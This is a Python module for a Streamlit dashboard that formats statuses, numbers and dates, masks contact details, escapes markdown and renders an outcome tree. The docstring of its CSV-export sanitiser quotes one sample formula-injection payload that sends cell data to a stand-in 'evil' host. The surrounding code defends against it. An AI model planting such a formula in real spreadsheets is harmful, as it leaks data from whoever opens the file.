"""How the dashboard says things: status colours and words, number formats, masking, empty states.

Everything that decides how a number or a status *looks* lives here once, so every page shows an
"at risk" node in the same amber with the same words and formats NPS as a signed whole number.
The pure functions (formatting, masking, escaping, the tree's DOT source) are unit-tested; the few
`st.*` helpers at the bottom draw the shared pieces (empty state, sidebar status, page header).
"""

from __future__ import annotations

import math
import re
from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from typing import Any
from zoneinfo import ZoneInfo, ZoneInfoNotFoundError

# --- statuses ----------------------------------------------------------------------------------

GREEN, AMBER, RED, GREY, BLUE = "#2e7d32", "#b26a00", "#c62828", "#757575", "#1565c0"
#: Progress bars are neutral: how far along is not good or bad by itself (the status says that).
PROGRESS_COLOR = "#1976d2"
# Plain geometric shapes, not emoji: they render in every font, and the table cell is coloured too.
DOT, CIRCLE, PAUSE = "●", "○", "‖"


@dataclass(frozen=True)
class StatusStyle:
    """How one status looks: its words, a strong colour (borders, lines), a light fill, a dot."""

    words: str
    color: str
    fill: str
    badge: str  # st.badge / markdown badge colour name
    dot: str


STATUS: dict[str, StatusStyle] = {
    "on_track": StatusStyle("On track", GREEN, "#e6f4ea", "green", DOT),
    "at_risk": StatusStyle("At risk", AMBER, "#fff3d6", "orange", DOT),
    "off_track": StatusStyle("Off track", RED, "#fde7e7", "red", DOT),
    "insufficient_data": StatusStyle("Insufficient data", GREY, "#f0f0f0", "gray", CIRCLE),
}
STATUS_ORDER = tuple(STATUS)


def status_style(status: str | None) -> StatusStyle:
    """The style of a status; anything unknown (or missing) looks like insufficient data."""
    return STATUS.get(status or "insufficient_data", STATUS["insufficient_data"])


def status_label(status: str | None) -> str:
    """Colour AND words, for tables: '● At risk'."""
    style = status_style(status)
    return f"{style.dot} {style.words}"


def status_badge(status: str | None) -> str:
    """A markdown badge for st.markdown: ':orange-badge[At risk]'."""
    style = status_style(status)
    return f":{style.badge}-badge[{style.words}]"


FEEDBACK_STATUS = {
    "acted": f"{DOT} Acted within SLA",
    "acted_late": f"{DOT} Acted late",
    "overdue": f"{DOT} Overdue",
    "open": f"{CIRCLE} Open (not yet due)",
    "held_not_ready": f"{PAUSE} Held (unit not ready)",
}


def feedback_status_label(status: str | None) -> str:
    return FEEDBACK_STATUS.get(status or "", status or "")


def gate_label(ready: bool | None) -> str:
    if ready is None:
        return f"{CIRCLE} Not assessed"
    return f"{DOT} Ready" if ready else f"{DOT} Not ready"


#: Label prefixes (as the helpers above and the data-health page write them) and their colour.
LABEL_COLORS: dict[str, str] = {
    **{status_label(s): STATUS[s].color for s in STATUS},
    FEEDBACK_STATUS["acted"]: GREEN,
    FEEDBACK_STATUS["acted_late"]: AMBER,
    FEEDBACK_STATUS["overdue"]: RED,
    FEEDBACK_STATUS["open"]: BLUE,
    FEEDBACK_STATUS["held_not_ready"]: GREY,
    f"{DOT} Ready": GREEN,
    f"{DOT} Not ready": RED,
    f"{CIRCLE} Not assessed": GREY,
    f"{DOT} Fresh": GREEN,
    f"{DOT} Stale": AMBER,
    f"{DOT} No events loaded": RED,
    f"{CIRCLE} No data yet": GREY,
    f"{CIRCLE} Not configured": GREY,
}


def label_color(text: Any) -> str:
    """CSS for a table cell holding one of the labels above: its colour, in bold; else nothing."""
    if not isinstance(text, str):
        return ""
    # Longest prefix first, so "● Not ready" is not taken for "● Not ..." of another label.
    for prefix in sorted(LABEL_COLORS, key=len, reverse=True):
        if text.startswith(prefix):
            return f"color: {LABEL_COLORS[prefix]}; font-weight: 600"
    return ""


def colored(df: Any, columns: Iterable[str], keep: Iterable[str] = ()) -> Any:
    """The frame as a Styler whose label columns are coloured by status (for st.dataframe).

    A styled table shows a missing value as "None", so timestamps become text
    ('2025-03-20 09:30', blank when missing) and numeric columns with gaps become text too
    (whole numbers without decimals), except the `keep` columns (progress bars draw gaps blank).
    """
    import pandas as pd

    out = df.copy()
    keep = set(keep)
    for col in out.columns:
        if col in keep:
            continue
        series = out[col]
        if pd.api.types.is_datetime64_any_dtype(series):
            out[col] = [("" if pd.isna(v) else f"{v:%Y-%m-%d %H:%M}") for v in series]
        elif pd.api.types.is_numeric_dtype(series) and not pd.api.types.is_bool_dtype(series):
            if series.isna().any():
                whole = series.dropna().apply(lambda v: float(v).is_integer()).all()
                out[col] = [
                    "" if pd.isna(v) else (f"{v:,.0f}" if whole else f"{v:,.2f}") for v in series
                ]
        elif series.isna().any():
            out[col] = ["" if (v is None or v != v) else v for v in series]
    present = [c for c in columns if c in out.columns]
    return out.style.map(label_color, subset=present)


# --- numbers -----------------------------------------------------------------------------------

NUMBER_FORMATS = ("number", "currency", "percent", "signed")


def resolve_format(fmt: str | None, kind: str | None) -> str:
    """The display format of a measure: its `format` if set, else one that suits its kind."""
    if fmt in NUMBER_FORMATS:
        return fmt
    return {
        "nps": "signed",
        "sum": "currency",
        "sum_ratio": "currency",
        "share": "percent",
        "ratio": "percent",
    }.get(kind or "", "number")


def _missing(value: Any) -> bool:
    if value is None:
        return True
    try:
        return math.isnan(float(value))
    except (TypeError, ValueError):
        return False


def format_value(value: Any, fmt: str | None = "number", kind: str | None = None) -> str:
    """A measure value as people read it.

    currency: compact money without a symbol (the strategy names no currency): 810.0K, 1.00M, 4.20;
    signed: NPS as a signed whole number (+24, -5, 0); percent: 34.2% (a `ratio` is a fraction and
    is multiplied by 100, a `share` is already 0..100); employee health: 62.5/100; else 5.10.
    """
    if _missing(value):
        return "–"
    v = float(value)
    fmt = resolve_format(fmt, kind)
    if fmt == "currency":
        size = abs(v)
        if size >= 1e9:
            return f"{v / 1e9:,.2f}B"
        if size >= 1e6:
            return f"{v / 1e6:,.2f}M"
        if size >= 1e4:
            return f"{v / 1e3:,.1f}K"
        return f"{v:,.2f}"
    if fmt == "signed":
        rounded = round(v)
        return f"+{rounded}" if rounded > 0 else str(rounded)
    if fmt == "percent":
        return f"{v * 100 if kind == 'ratio' else v:.1f}%"
    if kind == "employee_health":
        return f"{v:.1f}/100"
    if abs(v) >= 1e4:
        return f"{v:,.0f}"
    return f"{v:,.2f}"


def format_interval(low: Any, high: Any, fmt: str | None, kind: str | None = None) -> str:
    if _missing(low) or _missing(high):
        return ""
    return f"{format_value(low, fmt, kind)} to {format_value(high, fmt, kind)}"


def format_share(part: Any, whole: Any) -> str:
    """'67%' of a count, or '–' when there is nothing to share out."""
    if _missing(part) or _missing(whole) or float(whole) == 0:
        return "–"
    return f"{100 * float(part) / float(whole):.0f}%"


def format_progress(progress: Any) -> str:
    return "–" if _missing(progress) else f"{100 * float(progress):.0f}%"


def format_count(value: Any) -> str:
    return "0" if _missing(value) else f"{int(value):,}"


def plural(count: int, one: str, many: str) -> str:
    """'1 item is' / '3 items are': a count with the right words."""
    return f"{count:,} {one if count == 1 else many}"


def format_period(period: date | datetime | None, kind: str = "month") -> str:
    """A period's name: 'Mar 2025' (month), '2025 Q1' (quarter), 'Week of 2025-03-03' (week)."""
    if period is None:
        return "–"
    if isinstance(period, datetime):
        period = period.date()
    if kind == "quarter":
        return f"{period.year} Q{(period.month - 1) // 3 + 1}"
    if kind == "week":
        return f"Week of {period.isoformat()}"
    return period.strftime("%b %Y")


def period_axis(kind: str = "month", periods: int = 0) -> dict[str, Any]:
    """Plotly x-axis settings that label periods ('Mar 2025'), not every week; a long monthly
    history is labelled every quarter."""
    if kind == "week":
        return {"tickformat": "%d %b %Y"}
    months = 3 if kind == "quarter" or periods > 12 else 1
    return {"dtick": f"M{months}", "tickformat": "%b %Y"}


def _zone(tz: str | None) -> ZoneInfo:
    try:
        return ZoneInfo(tz or "UTC")
    except (ZoneInfoNotFoundError, ValueError):
        return ZoneInfo("UTC")


def format_timestamp(ts: datetime | None, tz: str | None = "UTC") -> str:
    """A stored (naive UTC) timestamp in the strategy's zone: '2025-03-20 09:30 UTC'."""
    if ts is None or _missing_ts(ts):
        return "–"
    zone = _zone(tz)
    aware = ts.replace(tzinfo=UTC) if ts.tzinfo is None else ts
    return f"{aware.astimezone(zone):%Y-%m-%d %H:%M} {zone.key}"


def _missing_ts(ts: Any) -> bool:
    return ts != ts  # NaT


def format_age(then: datetime | None, now: datetime | None = None) -> str:
    """How long ago a (naive UTC) time was: 'just now', '5 min ago', '3 h ago', '2 days ago'."""
    if then is None or _missing_ts(then):
        return "never"
    now = now or datetime.now(UTC).replace(tzinfo=None)
    if then.tzinfo is not None:
        then = then.astimezone(UTC).replace(tzinfo=None)
    seconds = (now - then).total_seconds()
    if seconds < 60:
        return "just now"
    if seconds < 3600:
        return f"{int(seconds // 60)} min ago"
    if seconds < 2 * 86400:
        return f"{int(seconds // 3600)} h ago"
    return f"{int(seconds // 86400)} days ago"


def format_hours(hours: Any) -> str:
    if _missing(hours):
        return "–"
    h = float(hours)
    return f"{h:.0f} h" if h < 72 else f"{h / 24:.1f} days"


# --- privacy and safety ------------------------------------------------------------------------

EMAIL = re.compile(r"[A-Za-z0-9._%+\-]+@[A-Za-z0-9.\-]+\.[A-Za-z]{2,}")
# A phone number: an optional +, then at least 7 digits, possibly grouped by spaces, dots, dashes,
# slashes or parentheses. ISO dates (2025-03-20) have 8 digits too and are kept as they are.
PHONE = re.compile(r"(?<![\w@])\+?\(?\d(?:[\s./\-()]{0,2}\d){6,}(?!\w)")
EMAIL_MASK = "[e-mail hidden]"
PHONE_MASK = "[phone hidden]"


def mask_contacts(text: str | None) -> str | None:
    """Replace e-mail addresses and phone numbers in a free-text comment.

    Customers write their contact details into comments ("call me at +49 170 1234567"); the
    strategy's `privacy.mask_contacts` (on by default) keeps them off screens and CSV exports.
    """
    if text is None:
        return None
    text = EMAIL.sub(EMAIL_MASK, str(text))
    return PHONE.sub(_phone_or_date, text)


_ISO_DATE = re.compile(r"\d{4}-\d{2}-\d{2}")


def _phone_or_date(match: re.Match[str]) -> str:
    found = match.group(0)
    return found if _ISO_DATE.fullmatch(found) else PHONE_MASK


def comment_text(text: Any, mask: bool) -> str:
    """A comment ready for a table cell: masked when the privacy option asks for it."""
    if text is None or _missing(text):
        return ""
    return (mask_contacts(str(text)) or "") if mask else str(text)


#: A cell starting with one of these is a formula to Excel, LibreOffice and Google Sheets.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_safe(frame: Any) -> Any:
    """A copy for a CSV download in which no text cell can run as a spreadsheet formula.

    Comments and ids come from customers: `=HYPERLINK("http://evil/?"&A1, "click")` typed into a
    survey would run when a colleague opens the download. Such cells get a leading apostrophe
    (OWASP's advice for CSV injection), which spreadsheets show as the text typed.
    """
    import pandas as pd

    out = frame.copy()
    for column in out.columns:
        if out[column].dtype == object or pd.api.types.is_string_dtype(out[column]):
            out[column] = [
                "'" + v if isinstance(v, str) and v.startswith(_FORMULA_START) else v
                for v in out[column]
            ]
    return out


_MARKDOWN_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|<>~:$&])")


def escape_markdown(text: Any) -> str:
    """Make any text safe to put inside st.markdown: every markdown, directive (`:red[...]`),
    LaTeX (`$`) and HTML character is backslash-escaped, so it shows as the characters typed."""
    return _MARKDOWN_SPECIAL.sub(r"\\\1", "" if text is None else str(text))


def suppressed_text(n: Any, min_n: Any, anonymity: bool = False, note: str | None = None) -> str:
    """Why a value is not shown, in words."""
    if anonymity:
        return f"Hidden to protect anonymity: fewer than {int(min_n or 0)} responses"
    if not _missing(n) and not _missing(min_n) and int(min_n or 0) > 0:
        return f"Hidden: too few responses ({int(n)} of the {int(min_n)} needed)"
    return f"Hidden: too few responses{f' ({note})' if note else ''}"


# --- the outcome tree as a graph ---------------------------------------------------------------


def _dot_string(text: str) -> str:
    return text.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")


def tree_dot(nodes: Iterable[Mapping[str, Any]], direction: str | None = None) -> str:
    """Graphviz DOT source for the outcome tree: root at the top (TB), or at the left (LR) when
    the tree has more than four leaves, so a wide tree stays readable.

    Each node mapping has: node, parent, label, status, and the display lines `lines` (value,
    target, progress); the fill and border colours follow the status, and the status is also
    written in words on the node.
    """
    nodes = list(nodes)
    parents = {n.get("parent") for n in nodes}
    leaves = sum(1 for n in nodes if n["node"] not in parents)
    rankdir = direction or ("LR" if leaves > 4 else "TB")
    out = [
        "digraph outcome_tree {",
        f'  graph [rankdir={rankdir}, bgcolor="transparent", nodesep=0.25, ranksep=0.45];',
        '  node [shape=box, style="rounded,filled", fontname="Helvetica", fontsize=11, '
        'penwidth=2, margin="0.18,0.08"];',
        '  edge [color="#9e9e9e", arrowhead=none, penwidth=1.4];',
    ]
    for n in nodes:
        style = status_style(n.get("status"))
        lines = [str(n.get("label") or n["node"]), *n.get("lines", ()), style.words.upper()]
        label = _dot_string("\n".join(lines))
        out.append(
            f'  "{_dot_string(str(n["node"]))}" [label="{label}", fillcolor="{style.fill}", '
            f'color="{style.color}", fontcolor="#1f1f1f"];'
        )
    for n in nodes:
        if n.get("parent"):
            out.append(f'  "{_dot_string(str(n["parent"]))}" -> "{_dot_string(str(n["node"]))}";')
    out.append("}")
    return "\n".join(out)


# --- shared page pieces (Streamlit) ------------------------------------------------------------

NO_SNAPSHOT = (
    "No published snapshot yet at `{path}`.\n\n"
    "The dashboard shows what the pipeline last published. To get one, run `make run` (demo data "
    "and the event-driven loop) or `outcomeloop run` (one pipeline run over the files in "
    "`$OUTCOMELOOP_HOME/inbox/`). This page refreshes by itself when the snapshot appears."
)


def empty_state(path: Any) -> None:
    """What every page shows before the pipeline has published anything."""
    import streamlit as st

    st.info(NO_SNAPSHOT.format(path=path), icon=":material/hourglass_empty:")


def unreadable_state(message: str) -> None:
    import streamlit as st

    st.error(
        f"The published snapshot could not be read: {message}\n\n"
        "Re-publish it with `outcomeloop run`; if this persists, the snapshot was built by a "
        "different version of OutcomeLoop.",
        icon=":material/error:",
    )


def page_header(title: str, icon: str, question: str) -> None:
    """A page title and the one question the page answers."""
    import streamlit as st

    st.title(title, anchor=False)
    st.caption(question)


def age_is_old(then: datetime | None, hours: float = 24) -> bool:
    if then is None or _missing_ts(then):
        return True
    now = datetime.now(UTC).replace(tzinfo=None)
    return now - then > timedelta(hours=hours)


def gate_state(gates: Any, unit: str, period: date | None = None) -> dict[str, Any]:
    """A unit's readiness gate at a period (default: its latest), with the start of the current
    streak: ready since `ready_since`, or not ready since the first period of the unbroken run of
    not-ready periods up to this one.

    `gates` is marts.readiness_gates as a DataFrame (unit, period_start, score, ready,
    blocking_dimensions, ready_since).
    """
    rows = gates[gates["unit"] == unit].sort_values("period_start")
    if period is not None:
        rows = rows[rows["period_start"] <= period]
    if rows.empty:
        return {
            "ready": None,
            "since": None,
            "score": None,
            "blocking": [],
            "label": gate_label(None),
        }
    last = rows.iloc[-1]
    ready = bool(last["ready"])
    if ready and last.get("ready_since") is not None and not _missing_ts(last["ready_since"]):
        since = last["ready_since"]
    else:
        since = last["period_start"]
        for _, r in rows.iloc[::-1].iterrows():
            if bool(r["ready"]) != ready:
                break
            since = r["period_start"]
    blocking = last.get("blocking_dimensions")
    if blocking is None or isinstance(blocking, str) or not hasattr(blocking, "__iter__"):
        blocking = []
    blocking = [str(b) for b in blocking]
    return {
        "ready": ready,
        "since": since,
        "score": last.get("score"),
        "blocking": blocking,
        "label": gate_label(ready),
    }


def render_page(title: str, icon: str, question: str, body: Callable[[Any], None]) -> None:
    """Every page's frame: its header, then the empty state when no snapshot is published yet, the
    unreadable state when it cannot be read, and otherwise `body(meta)`."""
    from dashboard import queries

    page_header(title, icon, question)
    meta = queries.current()
    if meta is None:
        empty_state(queries.snapshot_path())
        return
    try:
        body(meta)
    except queries.SnapshotUnreadable as exc:
        unreadable_state(str(exc))
